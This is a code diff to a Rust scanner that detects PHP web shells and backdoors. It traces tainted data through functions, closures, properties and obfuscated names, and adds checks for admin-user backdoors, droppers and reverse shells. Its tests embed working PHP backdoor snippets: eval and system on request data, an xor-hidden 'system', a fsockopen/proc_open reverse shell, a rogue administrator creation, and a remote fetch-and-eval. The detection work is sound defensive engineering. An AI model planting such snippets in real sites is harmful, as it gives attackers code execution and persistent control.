@@ -9,6 +9,7 @@
 //! Work is bounded by the token count.
 
 use std::collections::HashMap;
+use std::hash::{BuildHasherDefault, Hasher};
 
 use super::detect::{Danger, Why};
 use super::php::{Tok, Token};
@@ -34,6 +35,15 @@ const OPERATED: Labels = 512;
 /// code, commands and files, not for the array's other elements used as function names.
 const ELEM_INPUT: Labels = 1024;
 const ANY_INPUT: Labels = INPUT | ELEM_INPUT;
+/// A parameter of the function being read: where it goes tells what the function does.
+const PARAM: Labels = 2048;
+/// A function (or a closure held in a variable) that runs its argument as code…
+const WRAPS_CODE: Labels = 4096;
+/// …or as a shell command.
+const WRAPS_SHELL: Labels = 8192;
+const WRAPS: Labels = WRAPS_CODE | WRAPS_SHELL;
+/// Object properties (`$this->x`, `$o->x`) share one environment per file, by name.
+const PROPS: u32 = u32::MAX;
 
 const HIDDEN: Labels = DECODED | ASSEMBLED;
 const TAINT: Labels = INPUT | DECODED | REMOTE | ASSEMBLED | BLOB;
@@ -90,6 +100,8 @@ enum Target<'a> {
     Var(&'a [u8]),
     /// `$a[...]`: only labels flow.
     Elem(&'a [u8]),
+    /// `$o->name`: one slot per property name in the file.
+    Prop(&'a [u8]),
 }
 
 /// A place where the analysis found data becoming code, a command or a file.
@@ -113,22 +125,64 @@ struct An<'t, 'a> {
     record: bool,
     /// Scopes where `extract($_REQUEST)` made every variable the visitor's.
     extracted: Vec<u32>,
+    /// Named functions that run a parameter as code or a command (lowercase name → WRAPS_*).
+    wrappers: HashMap<Vec<u8>, Labels>,
+    /// Every variable name in the file, made when first needed (`var_named`).
+    var_names: Option<std::collections::HashSet<&'a [u8]>>,
+    /// What the parameters of the function being read reach (WRAPS_*).
+    fn_sinks: Labels,
     depth: u32,
     budget: usize,
     out: Vec<Sink>,
 }
 
+/// A fast hash for the fixed table of function names (`CLASSES`). Never for names from a file:
+/// those keep the standard keyed hash, so a file cannot be made of colliding names.
+#[derive(Default)]
+struct FxHasher(u64);
+
+impl Hasher for FxHasher {
+    fn write(&mut self, bytes: &[u8]) {
+        for c in bytes.chunks(8) {
+            let mut w = [0u8; 8];
+            w[..c.len()].copy_from_slice(c);
+            self.add(u64::from_le_bytes(w));
+        }
+    }
+    fn write_u32(&mut self, n: u32) {
+        self.add(u64::from(n));
+    }
+    fn write_usize(&mut self, n: usize) {
+        self.add(n as u64);
+    }
+    fn finish(&self) -> u64 {
+        self.0
+    }
+}
+
+impl FxHasher {
+    #[inline]
+    fn add(&mut self, w: u64) {
+        self.0 = (self.0.rotate_left(5) ^ w).wrapping_mul(0x51_7c_c1_b7_27_22_0a_95);
+    }
+}
+
+type Fast = BuildHasherDefault<FxHasher>;
+
 /// Runs the analysis over a file's tokens.
 pub fn analyze(tokens: &[Token<'_>]) -> Vec<Sink> {
     let mut a = An {
         t: tokens,
-        env: HashMap::new(),
+        env: HashMap::default(),
         scope: 0,
         next_scope: 1,
         first: true,
         stale: false,
         record: true,
         extracted: Vec::new(),
+        wrappers: HashMap::new(),
+        var_names: None,
+        fn_sinks: 0,
         depth: 0,
         budget: 0,
         out: Vec::new(),
@@ -290,6 +344,38 @@ const DATA_ENDINGS: &[&str] = &[
     ".css", ".js", ".woff", ".ttf", ".mp3", ".db",
 ];
 
+/// What a function name is to the analysis (bit set), looked up once per call.
+const C_DECODER: u8 = 1;
+const C_SHELL: u8 = 2;
+const C_REMOTE: u8 = 4;
+const C_INPUT: u8 = 8;
+const C_REDUCER: u8 = 16;
+const C_CALLBACK: u8 = 32;
+
+static CLASSES: std::sync::LazyLock<HashMap<&'static [u8], u8, Fast>> = std::sync::LazyLock::new(|| {
+    let mut m: HashMap<&'static [u8], u8, Fast> = HashMap::default();
+    let lists: [(&[&'static str], u8); 5] = [
+        (DECODERS, C_DECODER),
+        (SHELL, C_SHELL),
+        (REMOTE_CALLS, C_REMOTE),
+        (INPUT_CALLS, C_INPUT),
+        (REDUCERS, C_REDUCER),
+    ];
+    for (list, c) in lists {
+        for n in list {
+            *m.entry(n.as_bytes()).or_default() |= c;
+        }
+    }
+    for (n, _) in CALLBACKS {
+        *m.entry(n.as_bytes()).or_default() |= C_CALLBACK;
+    }
+    m
+});
+
+fn class(name: &[u8]) -> u8 {
+    CLASSES.get(name).copied().unwrap_or(0)
+}
+
 fn is(name: &[u8], list: &[&str]) -> bool {
     list.iter().any(|n| same(n.as_bytes(), name))
 }
@@ -426,6 +512,8 @@ impl<'t, 'a> An<'t, 'a> {
         let mut atoms_seen = 0;
         let mut head_fixed = false;
         let mut last_target = None;
+        // `"\x13\x19" ^ "``"`: two literals xor-ed (a hidden name).
+        let mut xor = false;
         while !self.terminator(j) && self.budget > 0 {
             self.budget -= 1;
             let (v, nj, target) = self.atom(j);
@@ -439,6 +527,10 @@ impl<'t, 'a> An<'t, 'a> {
             }
             last_target = target;
             match (&mut lit, &v.lit) {
+                (Some(l), Some(x)) if std::mem::take(&mut xor) && !l.is_empty() && !x.is_empty() => {
+                    *l = l.iter().zip(x.iter()).map(|(a, b)| a ^ b).collect();
+                    acc.labels |= DECODED;
+                }
                 (Some(l), Some(x)) if pure && l.len() + x.len() <= MAX_LIT => l.extend_from_slice(x),
                 _ => lit = None,
             }
@@ -446,6 +538,10 @@ impl<'t, 'a> An<'t, 'a> {
             j = nj;
             match self.tok(j) {
                 Some(Tok::Op(b".")) => j += 1,
+                Some(Tok::Op(b"^")) if pure && lit.as_ref().is_some_and(|l| !l.is_empty()) && v.lit.is_some() => {
+                    xor = true;
+                    j += 1;
+                }
                 Some(Tok::Op(o)) if is_assign(o) => {
                     let o: &[u8] = o;
                     let (rhs, end, _) = self.expr(j + 1);
@@ -490,12 +586,13 @@ impl<'t, 'a> An<'t, 'a> {
     }
 
     fn assign(&mut self, t: Target<'a>, op: &[u8], rhs: &Val) {
-        let (name, elem) = match t {
-            Target::Var(n) => (n, false),
-            Target::Elem(n) => (n, true),
+        let (scope, name, elem) = match t {
+            Target::Var(n) => (self.scope, n, false),
+            Target::Elem(n) => (self.scope, n, true),
+            Target::Prop(n) => (PROPS, n, false),
         };
         let first = self.first;
-        let slot = self.env.entry((self.scope, name)).or_default();
+        let slot = self.env.entry((scope, name)).or_default();
         let before = slot.labels;
         let mut labels = rhs.labels & !UNKNOWN | if rhs.lit.is_none() { rhs.labels & UNKNOWN } else { 0 };
         if elem && labels & INPUT != 0 {
@@ -544,6 +641,70 @@ impl<'t, 'a> An<'t, 'a> {
                 _ => Val { labels: s.labels | UNKNOWN, ..Val::default() },
             },
         }
+    }
+
+    /// `$o->name`: what any object's property of that name was given in this file.
+    fn lookup_prop(&mut self, name: &'a [u8]) -> Val {
+        let s = self.env.entry((PROPS, name)).or_default();
+        if self.first {
+            s.read = true;
+        }
+        match &s.lit {
+            LitState::Known(v) => Val { labels: s.labels, lit: Some(v.clone()), atoms: 0 },
+            _ => Val { labels: s.labels | UNKNOWN, ..Val::default() },
+        }
+    }
+
+    /// A token `$name` spelling `name`, so a variable named by a known string (`$$a`) can be
+    /// assigned like one written out.
+    fn var_named(&mut self, name: &[u8]) -> Option<&'a [u8]> {
+        let t: &'t [Token<'a>] = self.t;
+        // Every name once per file (a file of many `$$a` stays linear).
+        let names = self.var_names.get_or_insert_with(|| {
+            t.iter()
+                .filter_map(|t| match &t.tok {
+                    Tok::Var(n) => Some(*n),
+                    _ => None,
+                })
+                .collect()
+        });
+        names.get(name).copied()
+    }
+
+    /// `list($a, $b) = …` / `[$a, $b] = …` (`open`, then `=` at `eq`): every variable in the
+    /// list gets the right-hand side's marks.
+    fn destructure(&mut self, open: usize, eq: usize) -> (Val, usize, Option<Target<'a>>) {
+        let close = eq - 1;
+        let (rhs, end, _) = self.expr(eq + 1);
+        let v = Val { labels: rhs.labels | UNKNOWN, ..Val::default() };
+        for k in open + 1..close {
+            if let Some(Tok::Var(n)) = self.tok(k) {
+                let n = *n;
+                self.assign(Target::Var(n), b"=", &v);
+            }
+        }
+        (rhs, end, None)
+    }
+
+    /// Whether a string literal inside the call at `i` (name, then `(`) passes `f`.
+    fn strings_in_call(&self, i: usize, f: impl Fn(&[u8]) -> bool) -> bool {
+        // Within a bounded distance: nested calls cannot make this quadratic.
+        let mut close = i + 1;
+        let mut depth = 0usize;
+        while close < self.t.len() && close < i + 4096 {
+            match self.tok(close) {
+                Some(Tok::Op(b"(" | b"[" | b"{")) => depth += 1,
+                Some(Tok::Op(b")" | b"]" | b"}")) => {
+                    depth = depth.saturating_sub(1);
+                    if depth == 0 {
+                        break;
+                    }
+                }
+                _ => {}
+            }
+            close += 1;
+        }
+        self.t[(i + 1).min(close)..close].iter().any(|t| matches!(&t.tok, Tok::Str { value, .. } if f(value)))
     }
 
     /// The index of the token closing the group opened at `open`.
@@ -633,6 +794,9 @@ impl<'t, 'a> An<'t, 'a> {
                 }
                 b"[" => {
                     let (vals, e) = self.list(i, b"]");
+                    if self.op(e, b"=") && self.op(e.wrapping_sub(1), b"]") {
+                        return self.destructure(i, e);
+                    }
                     let v = array_val(&vals);
                     self.postfix(v, e, None, i)
                 }
@@ -649,6 +813,11 @@ impl<'t, 'a> An<'t, 'a> {
                     }
                     if let Some(Tok::Var(_)) = self.tok(i + 1) {
                         let (v, e, _) = self.atom(i + 1);
+                        // `$$a` where `$a` is a known name: that variable.
+                        if let Some(n) = v.lit.as_deref().and_then(|n| self.var_named(n)) {
+                            let x = self.lookup(n);
+                            return self.postfix(x, e, Some(Target::Var(n)), i);
+                        }
                         let v = Val { labels: UNKNOWN | (v.labels & TAINT), ..Val::default() };
                         return self.postfix(v, e, None, i);
                     }
@@ -728,6 +897,19 @@ impl<'t, 'a> An<'t, 'a> {
         };
         let mut indexed = false;
         loop {
+            // A property: `$this->data`, `$o->data` (not a method call).
+            let prop = match (self.tok(j), self.tok(j + 1)) {
+                (Some(Tok::Op(o)), Some(Tok::Ident(p))) if (*o == b"->" || *o == b"?->") && !self.op(j + 2, b"(") => {
+                    Some(*p)
+                }
+                _ => None,
+            };
+            if let Some(p) = prop {
+                v = self.lookup_prop(p);
+                target = Some(Target::Prop(p));
+                j += 2;
+                continue;
+            }
             match self.tok(j) {
                 Some(Tok::Op(o)) if *o == b"[" || (*o == b"{" && target.is_some()) => {
                     let curly = self.op(j, b"{");
@@ -768,8 +950,9 @@ impl<'t, 'a> An<'t, 'a> {
                         v = Val { labels: v.labels & !(FIXED_HEAD | OPERATED | PHP_NAME), lit: None, atoms: 0 };
                     }
                     indexed = true;
-                    target = target.map(|t| match t {
-                        Target::Var(n) | Target::Elem(n) => Target::Elem(n),
+                    target = target.and_then(|t| match t {
+                        Target::Var(n) | Target::Elem(n) => Some(Target::Elem(n)),
+                        Target::Prop(_) => None,
                     });
                     j = e;
                 }
@@ -854,6 +1037,7 @@ impl<'t, 'a> An<'t, 'a> {
                 let mut e = i + 1;
                 let reflect =
                     matches!(self.tok(e), Some(Tok::Ident(c)) if c.eq_ignore_ascii_case(b"ReflectionFunction"));
+                let spl_file = matches!(self.tok(e), Some(Tok::Ident(c)) if c.eq_ignore_ascii_case(b"SplFileObject"));
                 if matches!(self.tok(e), Some(Tok::Ident(_)) | Some(Tok::Var(_))) {
                     e += 1;
                 }
@@ -862,12 +1046,23 @@ impl<'t, 'a> An<'t, 'a> {
                     if reflect && args.first().is_some_and(|a| a.labels & INPUT != 0) {
                         self.hit(Why::DynamicCallFromInput, Danger::Critical, i);
                     }
+                    // A file the visitor names, opened for writing.
+                    let writes = args
+                        .get(1)
+                        .and_then(|a| a.lit.as_deref())
+                        .is_some_and(|m| m.iter().any(|c| matches!(c, b'w' | b'a' | b'x' | b'c' | b'+')));
+                    if spl_file && writes && args.first().is_some_and(|a| a.labels & ANY_INPUT != 0) {
+                        self.hit(Why::UploadDropper, Danger::High, i);
+                    }
                     e = end;
                 }
                 return (Val::unknown(), e, None);
             }
             b"array" | b"list" if call => {
                 let (vals, e) = self.list(i + 1, b")");
+                if name == b"list" && self.op(e, b"=") && self.op(e.wrapping_sub(1), b")") {
+                    return self.destructure(i + 1, e);
+                }
                 return (array_val(&vals), e, None);
             }
             b"eval" if call => {
@@ -910,14 +1105,19 @@ impl<'t, 'a> An<'t, 'a> {
         if self.op(j, b"&") {
             j += 1;
         }
-        let named = matches!(self.tok(j), Some(Tok::Ident(_)));
+        let fname = match self.tok(j) {
+            Some(Tok::Ident(n)) => Some(lower(n)),
+            _ => None,
+        };
+        let named = fname.is_some();
         if named {
             j += 1;
         }
         if !self.op(j, b"(") {
             return (Val::default(), i + 1, None);
         }
-        j = self.close_of(j) + 1;
+        let params = (j + 1, self.close_of(j));
+        j = params.1 + 1;
         // `use (...)`, a return type, then the body (or `;` for an abstract method, `=>` for fn).
         while let Some(t) = self.tok(j) {
             match t {
@@ -939,9 +1139,45 @@ impl<'t, 'a> An<'t, 'a> {
             self.scope = self.next_scope;
             self.next_scope += 1;
         }
+        // Parameters: where they end up says whether the function runs its argument.
+        for k in params.0..params.1 {
+            if let Some(Tok::Var(n)) = self.tok(k) {
+                let n = *n;
+                let slot = self.env.entry((self.scope, n)).or_default();
+                slot.labels |= PARAM | UNKNOWN;
+                slot.lit = LitState::Conflict;
+            }
+        }
+        let outer_sinks = std::mem::take(&mut self.fn_sinks);
         self.block(j + 1, close);
+        let sinks = std::mem::replace(&mut self.fn_sinks, outer_sinks);
         self.scope = outer;
-        (Val::unknown(), close + 1, None)
+        if let (Some(name), true) = (fname, sinks != 0)
+            && self.wrappers.insert(name, sinks) != Some(sinks)
+        {
+            // Calls read before the definition are read again.
+            self.stale = true;
+        }
+        (Val { labels: UNKNOWN | sinks, ..Val::default() }, close + 1, None)
+    }
+
+    /// A call of a function (or closure) that runs its argument as code or a command.
+    fn wrapped(&mut self, wraps: Labels, args: &[Val], i: usize) {
+        let mut v = Val::default();
+        for a in args {
+            v.labels |= a.labels & (ANY_INPUT | DECODED | REMOTE | BLOB | PARAM);
+        }
+        if v.labels & !PARAM == 0 && v.labels & PARAM != 0 {
+            // A wrapper of a wrapper.
+            self.fn_sinks |= wraps;
+            return;
+        }
+        if wraps & WRAPS_SHELL != 0 {
+            self.shell(&v, i, false);
+        }
+        if wraps & WRAPS_CODE != 0 {
+            self.code(&v, i, false);
+        }
     }
 
     /// A call of a named function: its sinks and its value.
@@ -955,6 +1191,9 @@ impl<'t, 'a> An<'t, 'a> {
         if args.iter().any(|a| a.lit.as_deref() == Some(b"php://input".as_slice())) {
             return Val { labels: INPUT | UNKNOWN, ..Val::default() };
         }
+        if let Some(w) = self.wrappers.get(name).copied() {
+            self.wrapped(w, args, i);
+        }
         if via_variable
             && (is(name, SHELL)
                 || is(name, CODE)
@@ -962,7 +1201,8 @@ impl<'t, 'a> An<'t, 'a> {
         {
             self.hit(Why::HiddenFunctionName, Danger::High, i);
         }
-        if is(name, DECODERS) {
+        let class = class(name);
+        if class & C_DECODER != 0 {
             let a0 = arg(0);
             if a0.labels & BLOB != 0 {
                 let nested = !matches!(name, b"base64_decode" | b"urldecode" | b"rawurldecode" | b"pack" | b"hex2bin");
@@ -989,6 +1229,72 @@ impl<'t, 'a> An<'t, 'a> {
                 let c = arg(0).lit.as_deref().and_then(parse_num).map(|n| vec![(n.rem_euclid(256)) as u8]);
                 return Val { labels: arg(0).labels & TAINT, lit: c, atoms: 1 };
             }
+            b"sprintf" if args.len() >= 3 && args.iter().all(|a| a.lit.is_some()) => {
+                // `sprintf('%s%s', 'sys', 'tem')`: only `%s` pieces are folded.
+                let f = arg(0).lit.unwrap_or_default();
+                let mut out = Vec::new();
+                let mut k = 1;
+                let mut it = f.iter().copied().peekable();
+                while let Some(c) = it.next() {
+                    match (c, it.peek()) {
+                        (b'%', Some(b's')) => {
+                            it.next();
+                            out.extend_from_slice(args.get(k).and_then(|a| a.lit.as_deref()).unwrap_or_default());
+                            k += 1;
+                        }
+                        (b'%', _) => return Val::unknown(),
+                        _ => out.push(c),
+                    }
+                }
+                return Val { labels: ASSEMBLED, lit: Some(out), atoms: 0 };
+            }
+            b"strtr" if args.len() == 3 => {
+                let (a, b, c) = (arg(0), arg(1), arg(2));
+                let lit = match (&a.lit, &b.lit, &c.lit) {
+                    (Some(s), Some(from), Some(to)) => Some(
+                        s.iter()
+                            .map(|ch| from.iter().position(|f| f == ch).and_then(|k| to.get(k)).copied().unwrap_or(*ch))
+                            .collect(),
+                    ),
+                    _ => None,
+                };
+                return Val { labels: union.labels | DECODED, lit, atoms: 0 };
+            }
+            b"wp_insert_user" | b"wp_create_user" | b"wp_update_user" => {
+                // An administrator made with a login or password from the request.
+                if union.labels & ANY_INPUT != 0
+                    && self.strings_in_call(i, |s| s.eq_ignore_ascii_case(b"administrator"))
+                {
+                    self.hit(Why::AdminBackdoor, Danger::Critical, i);
+                }
+                return Val::unknown();
+            }
+            b"add_action" | b"add_filter" if arg(0).lit.as_deref() == Some(b"pre_user_query".as_slice()) => {
+                // A user left out of the admin's list of users.
+                let hides = self.strings_in_call(i, |s| {
+                    let l = lower(s);
+                    memchr::memmem::find(&l, b"user_login").is_some()
+                        && [b"!=".as_slice(), b"<>", b"not in", b"not like"]
+                            .iter()
+                            .any(|op| memchr::memmem::find(&l, op).is_some())
+                });
+                if hides {
+                    self.hit(Why::AdminBackdoor, Danger::High, i);
+                }
+                return Val::unknown();
+            }
+            b"mail" => {
+                // Recipients and headers (or an encoded body) all chosen by the visitor.
+                let free = |v: &Val| v.labels & ANY_INPUT != 0 && v.labels & FIXED_HEAD == 0;
+                if free(&arg(0)) && (free(&arg(3)) || arg(2).labels & (DECODED | BLOB) != 0) {
+                    self.hit(Why::MailFromInput, Danger::High, i);
+                }
+                return Val::unknown();
+            }
+            b"exif_read_data" | b"iptcparse" => {
+                // Text hidden in an image's headers.
+                return Val { labels: DECODED | UNKNOWN, ..Val::default() };
+            }
             b"str_replace" | b"str_ireplace" => {
                 let (a, b, c) = (arg(0), arg(1), arg(2));
                 let lit = match (&a.lit, &b.lit, &c.lit) {
@@ -999,7 +1305,7 @@ impl<'t, 'a> An<'t, 'a> {
             }
             b"assert" => {
                 let a = arg(0);
-                if a.labels & TAINT != 0 && a.labels & OPERATED == 0 {
+                if a.labels & (TAINT | PARAM) != 0 && a.labels & OPERATED == 0 {
                     self.code(&a, i, false);
                 }
                 return Val::unknown();
@@ -1013,6 +1319,12 @@ impl<'t, 'a> An<'t, 'a> {
                 let p = arg(0);
                 if p.labels & INPUT != 0 && p.labels & FIXED_HEAD == 0 {
                     self.hit(Why::CodeFromInput, Danger::Critical, i);
+                } else if p.lit.is_none()
+                    && p.labels & (DECODED | REMOTE) != 0
+                    && !matches!(self.tok(i + 2), Some(Tok::Str { .. }))
+                {
+                    // A pattern taken whole from decoded or fetched data (an image's headers).
+                    self.hit(Why::EvalOfDecoded, Danger::Critical, i);
                 } else if p.lit.as_deref().is_some_and(preg_has_e) {
                     let d = if (arg(1).labels | arg(2).labels) & TAINT != 0 { Danger::Critical } else { Danger::High };
                     self.hit(Why::PregReplaceEval, d, i);
@@ -1060,28 +1372,34 @@ impl<'t, 'a> An<'t, 'a> {
             }
             _ => {}
         }
-        if is(name, SHELL) {
+        if class & C_SHELL != 0 {
             // The command is the first argument, or a later one (`pcntl_exec('/bin/sh', [...])`).
             let mut cmd = arg(0);
             if name == b"pcntl_exec" {
                 cmd.labels |= arg(1).labels & (ANY_INPUT | DECODED | REMOTE | ASSEMBLED);
             }
+            if name == b"proc_open" && arg(1).labels & REMOTE != 0 {
+                // A shell whose input and output are a network connection (a reverse shell).
+                self.hit(Why::ShellFromInput, Danger::Critical, i);
+            }
             self.shell(&cmd, i, false);
             return Val::unknown();
         }
-        if let Some((_, pos)) = CALLBACKS.iter().find(|(n, _)| n.as_bytes() == name) {
+        if class & C_CALLBACK != 0
+            && let Some((_, pos)) = CALLBACKS.iter().find(|(n, _)| n.as_bytes() == name)
+        {
             let cb = arg(*pos);
             let rest: Vec<Val> = args.iter().enumerate().filter(|(k, _)| k != pos).map(|(_, a)| a.clone()).collect();
             self.callback(&cb, &rest, i);
             return Val::unknown();
         }
-        if is(name, REMOTE_CALLS) {
+        if class & C_REMOTE != 0 {
             return Val { labels: REMOTE | UNKNOWN, ..Val::default() };
         }
-        if is(name, INPUT_CALLS) {
+        if class & C_INPUT != 0 {
             return Val { labels: INPUT | UNKNOWN, ..Val::default() };
         }
-        if is(name, REDUCERS) {
+        if class & C_REDUCER != 0 {
             return Val::default();
         }
         Val { labels: union.labels & (ANY_INPUT | DECODED | REMOTE | UPLOAD | ASSEMBLED) | UNKNOWN, ..Val::default() }
@@ -1093,6 +1411,9 @@ impl<'t, 'a> An<'t, 'a> {
         if callee.labels & INPUT != 0 {
             self.hit(Why::DynamicCallFromInput, Danger::Critical, i);
             return Val::unknown();
+        }
+        if callee.labels & WRAPS != 0 {
+            self.wrapped(callee.labels & WRAPS, args, i);
         }
         if let Some(name) = callee.lit.as_deref().map(lower) {
             if callee.labels & HIDDEN != 0 && !name.is_empty() {
@@ -1117,8 +1438,12 @@ impl<'t, 'a> An<'t, 'a> {
         let tainted = rest.iter().any(|a| a.labels & (INPUT | DECODED | REMOTE | BLOB) != 0);
         if cb.labels & INPUT != 0 {
             self.hit(Why::DynamicCallFromInput, Danger::Critical, i);
+        } else if cb.labels & WRAPS != 0 {
+            self.wrapped(cb.labels & WRAPS, rest, i);
         } else if let Some(name) = cb.lit.as_deref().map(lower) {
-            if is(&name, SHELL) || is(&name, CODE) {
+            if let Some(w) = self.wrappers.get(&name).copied() {
+                self.wrapped(w, rest, i);
+            } else if is(&name, SHELL) || is(&name, CODE) {
                 self.hit(Why::HiddenFunctionName, if tainted { Danger::Critical } else { Danger::Medium }, i);
                 if let Some(a) = rest.first() {
                     if is(&name, SHELL) {
@@ -1135,6 +1460,9 @@ impl<'t, 'a> An<'t, 'a> {
 
     /// Data that becomes PHP code. `eval_like`: an unknown value is worth a (low) note.
     fn code(&mut self, v: &Val, i: usize, eval_like: bool) {
+        if v.labels & PARAM != 0 {
+            self.fn_sinks |= WRAPS_CODE;
+        }
         if v.labels & ANY_INPUT != 0 {
             self.hit(Why::CodeFromInput, Danger::Critical, i);
         } else if v.labels & (DECODED | ASSEMBLED | BLOB) != 0 {
@@ -1147,6 +1475,9 @@ impl<'t, 'a> An<'t, 'a> {
     }
 
     fn shell(&mut self, v: &Val, i: usize, backtick: bool) {
+        if v.labels & PARAM != 0 {
+            self.fn_sinks |= WRAPS_SHELL;
+        }
         if v.labels & ANY_INPUT != 0 {
             self.hit(Why::ShellFromInput, Danger::Critical, i);
         } else if v.labels & (DECODED | ASSEMBLED | BLOB | REMOTE) != 0 {
@@ -1157,6 +1488,36 @@ impl<'t, 'a> An<'t, 'a> {
     }
 
     fn include(&mut self, v: &Val, i: usize) {
+        // Stream wrappers in the included path: `data:`/`php://input` run text as code,
+        // `zip://`/`phar://` run code hidden inside an image or other data file.
+        let (mut text_wrapper, mut body, mut archive, mut data_name) = (false, false, false, false);
+        let mut k = i + 1;
+        while k < i + 64 && (!self.terminator(k) || self.op(k, b")")) {
+            if let Some(Tok::Str { value, .. }) = self.tok(k) {
+                let l = lower(value);
+                text_wrapper |= l.starts_with(b"data:") || l.starts_with(b"php://filter");
+                body |= l.starts_with(b"php://input");
+                archive |= l.starts_with(b"zip://") || l.starts_with(b"phar://");
+                data_name |= DATA_ENDINGS.iter().any(|e| {
+                    memchr::memmem::find(&l, e.as_bytes())
+                        .is_some_and(|p| matches!(l.get(p + e.len()), None | Some(b'#' | b'/')))
+                });
+            }
+            k += 1;
+        }
+        if body {
+            self.hit(Why::CodeFromInput, Danger::Critical, i);
+            return;
+        }
+        if text_wrapper {
+            // Like `eval` of the text (template engines compile this way).
+            self.code(&Val { labels: v.labels | UNKNOWN, ..Val::default() }, i, true);
+            return;
+        }
+        if archive && data_name {
+            self.hit(Why::IncludeOfData, Danger::High, i);
+            return;
+        }
         if v.labels & ANY_INPUT != 0 && v.labels & FIXED_HEAD == 0 {
             self.hit(Why::CodeFromInput, Danger::Critical, i);
         } else if v.labels & ANY_INPUT != 0 {
@@ -1288,6 +1649,60 @@ mod tests {
         let s = "<?php $ch = curl_init('http://x.example/p.txt'); $code = curl_exec($ch); eval('?>'.$code);";
         assert_eq!(sinks(s), [(Why::CodeFromInternet, Danger::Critical)]);
         assert_eq!(sinks("<?php include '/tmp/.x/favicon_3a1.ico';"), [(Why::IncludeOfData, Danger::High)]);
+    }
+
+    #[test]
+    fn data_is_followed_through_functions_closures_properties_and_lists() {
+        let crit =
+            |src: &str, why: Why| assert!(sinks(src).contains(&(why, Danger::Critical)), "{src}: {:?}", sinks(src));
+        crit("<?php run($_POST['t']); function run($c) { return system($c); }", Why::ShellFromInput);
+        crit("<?php function a($x) { b($x); } function b($y) { eval($y); } a($_GET['x']);", Why::CodeFromInput);
+        crit("<?php $r = function ($x) { eval($x); }; $r($_REQUEST['c']);", Why::CodeFromInput);
+        crit("<?php array_map(function ($x) { assert($x); }, $_POST);", Why::CodeFromInput);
+        crit(
+            "<?php class A { function __destruct() { eval($this->d); } } $o = new A; $o->d = $_POST['d'];",
+            Why::CodeFromInput,
+        );
+        crit("<?php list($f, $a) = explode('|', $_COOKIE['z']); $f($a);", Why::DynamicCallFromInput);
+        crit("<?php [$f, $a] = explode('|', $_COOKIE['z']); $f($a);", Why::DynamicCallFromInput);
+        crit("<?php $a = 'b'; $$a = 'system'; $b($_GET['c']);", Why::ShellFromInput);
+        crit(
+            "<?php $k = \"\\x13\\x19\\x13\\x14\\x06\\x0c\" ^ \"\\x60\\x60\\x60\\x60\\x63\\x61\"; $k($_GET['c']);",
+            Why::ShellFromInput,
+        );
+        crit("<?php $f = sprintf('%s%s', 'sys', 'tem'); $f($_GET['c']);", Why::ShellFromInput);
+        crit("<?php $f = strtr('qjqlzk', 'qjlzk', 'sytem'); $f($_GET['c']);", Why::ShellFromInput);
+        crit("<?php include 'data://text/plain;base64,' . $_POST['p'];", Why::CodeFromInput);
+        crit("<?php include 'php://input';", Why::CodeFromInput);
+        crit("<?php $e = exif_read_data('a.jpg'); preg_replace($e['Make'], $e['Model'], '');", Why::EvalOfDecoded);
+        crit(
+            "<?php $s = fsockopen($_GET['h'], 80); proc_open('/bin/sh', [0 => $s, 1 => $s], $p);",
+            Why::ShellFromInput,
+        );
+        crit(
+            "<?php wp_insert_user(['user_login' => 'x', 'user_pass' => $_GET['p'], 'role' => 'administrator']);",
+            Why::AdminBackdoor,
+        );
+        assert_eq!(
+            sinks("<?php include 'zip://' . __DIR__ . '/logo.jpg#x.php';"),
+            [(Why::IncludeOfData, Danger::High)]
+        );
+        assert_eq!(sinks("<?php $o = new SplFileObject($_POST['f'], 'w');"), [(Why::UploadDropper, Danger::High)]);
+        assert_eq!(sinks("<?php mail($_POST['to'], 's', 'b', $_POST['h']);"), [(Why::MailFromInput, Danger::High)]);
+    }
+
+    #[test]
+    fn ordinary_functions_templates_and_mail_are_quiet() {
+        assert!(sinks("<?php function run($c) { return esc_html($c); } run($_POST['t']);").is_empty());
+        assert!(sinks("<?php function t($f) { include $f; } t(__DIR__ . '/tpl.php');").is_empty());
+        assert!(sinks("<?php $this->name = $_POST['n']; echo $this->name;").is_empty());
+        assert!(sinks("<?php mail(get_option('admin_email'), $_POST['subject'], $_POST['message']);").is_empty());
+        assert!(sinks("<?php wp_insert_user(['user_login' => $_POST['u'], 'role' => 'subscriber']);").is_empty());
+        // A template engine compiling to PHP through data: is like eval of a variable (weak).
+        assert_eq!(
+            sinks("<?php return include('data://text/plain,' . urlencode($php));"),
+            [(Why::EvalOfVariable, Danger::Low)]
+        );
     }
 
     #[test]
